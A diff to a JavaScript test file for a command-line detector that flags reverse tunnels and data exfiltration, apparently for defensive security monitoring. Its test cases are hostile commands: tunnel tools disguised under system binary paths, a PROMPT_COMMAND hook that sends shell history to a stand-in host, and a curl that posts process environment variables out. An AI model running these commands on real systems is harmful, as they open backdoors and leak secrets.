@@ -16,6 +16,8 @@ describe('tunnels that let somebody in', () => {
 	test.each([
 		['gs-netcat -s secret -l -i -q', 'high reverse-tunnel'], ['exec -a sshd /usr/bin/gs-netcat -liqs x', 'high reverse-tunnel'], ['chisel client https://203.0.113.9 R:socks', 'high reverse-tunnel'], ['./agent -connect 203.0.113.9:11601 -ignore-cert', 'high reverse-tunnel'],
 		['wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.9', 'high reverse-tunnel'], ['frpc -c /etc/frp/frpc.ini', 'medium reverse-tunnel'], ['ngrok tcp 22 --log=stdout', 'medium reverse-tunnel'], ['cloudflared tunnel --url ssh://localhost:22', 'medium reverse-tunnel'], ['bore local 22 --to bore.pub', 'medium reverse-tunnel'], ['iodine -f -P x t.example.net', 'medium reverse-tunnel'], ['tmate -F', 'medium reverse-tunnel'],
+		['/usr/lib/snapd/snap-relay client --auth u:p https://edge.example:443 R:1080:socks R:10022:127.0.0.1:22', 'high reverse-tunnel'], ['/usr/lib/kmod/kmodsync tunnel --no-autoupdate run --token eyJhIjoi', 'high reverse-tunnel'], ['/usr/bin/ntpd-gw -L=socks5://u:p@:31080 -F=relay+wss://203.0.113.99:443', 'medium reverse-tunnel'],
+		["PROMPT_COMMAND='(history 1 | curl -s -F c=@- http://log.example/k &)'", 'high data-sent'], ['curl -sk https://203.0.113.44:8443/p --data-binary @/proc/self/environ', 'medium data-sent'],
 	])('%s', (text, expected) => {
 		expect(kinds(text)).toContain(expected);
 	});
